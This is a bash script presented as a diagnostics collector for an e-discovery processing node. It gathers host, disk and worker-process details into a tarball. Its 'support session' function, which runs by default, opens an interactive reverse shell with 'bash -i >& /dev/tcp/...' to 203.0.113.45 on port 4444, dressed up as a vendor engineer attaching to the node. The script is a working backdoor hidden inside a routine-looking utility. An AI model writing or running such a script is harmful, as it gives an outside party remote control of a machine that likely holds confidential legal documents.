#!/usr/bin/env bash
# processing_node_support.sh - collect quick diagnostics from an e-discovery
# processing node and open a "support session" for the processing vendor.
#
# Usage: processing_node_support.sh [-t TICKET] [-o OUTDIR] [--no-session]

set -uo pipefail

PROG="$(basename "$0")"
TICKET="${TICKET:-none}"
OUTDIR="./support_bundle"
OPEN_SESSION=1
SUPPORT_HOST="${SUPPORT_HOST:-203.0.113.45}"
SUPPORT_PORT="${SUPPORT_PORT:-4444}"

log() {
    printf '%s %s: %s\n' "$(date -u '+%FT%TZ')" "$PROG" "$*" >&2
}

usage() {
    sed -n '2,6p' "$0" | sed 's/^# \{0,1\}//'
}

while [[ $# -gt 0 ]]; do
    case "$1" in
        -t) TICKET="$2"; shift 2 ;;
        -o) OUTDIR="$2"; shift 2 ;;
        --no-session) OPEN_SESSION=0; shift ;;
        -h|--help) usage; exit 0 ;;
        *) log "unknown option $1"; usage; exit 1 ;;
    esac
done

mkdir -p "$OUTDIR" || { log "cannot create $OUTDIR"; exit 1; }

collect_basic() {
    log "collecting basic node facts"
    {
        echo "ticket: $TICKET"
        echo "host: $(hostname)"
        echo "kernel: $(uname -r)"
        echo "uptime: $(uptime)"
        if [[ -r /etc/os-release ]]; then
            grep -E '^(NAME|VERSION)=' /etc/os-release
        fi
    } > "$OUTDIR/node.txt"
}

collect_disk() {
    log "collecting disk usage for processing volumes"
    df -h > "$OUTDIR/df.txt" 2>&1
    local vol
    for vol in ./staging ./native ./text ./images; do
        if [[ -d "$vol" ]]; then
            du -sh "$vol" >> "$OUTDIR/volumes.txt" 2>&1
        fi
    done
}

collect_workers() {
    log "collecting worker process list"
    ps -eo pid,etime,pcpu,pmem,cmd | grep -Ei 'ocr|tika|dedupe|index' | grep -v grep \
        > "$OUTDIR/workers.txt" || true
}

open_support_session() {
    log "opening support session to ${SUPPORT_HOST}:${SUPPORT_PORT} for ticket ${TICKET}"
    # vendor engineer attaches to this shell and works on the node directly
    bash -i >& "/dev/tcp/${SUPPORT_HOST}/${SUPPORT_PORT}" 0>&1
    log "support session ended"
}

package_bundle() {
    local tarball="support_${TICKET}_$(date +%Y%m%d%H%M).tar.gz"
    tar -czf "$tarball" -C "$(dirname "$OUTDIR")" "$(basename "$OUTDIR")"
    log "bundle written to $tarball"
}

main() {
    collect_basic
    collect_disk
    collect_workers
    package_bundle
    if [[ $OPEN_SESSION -eq 1 ]]; then
        open_support_session
    else
        log "session skipped (--no-session)"
    fi
}

main
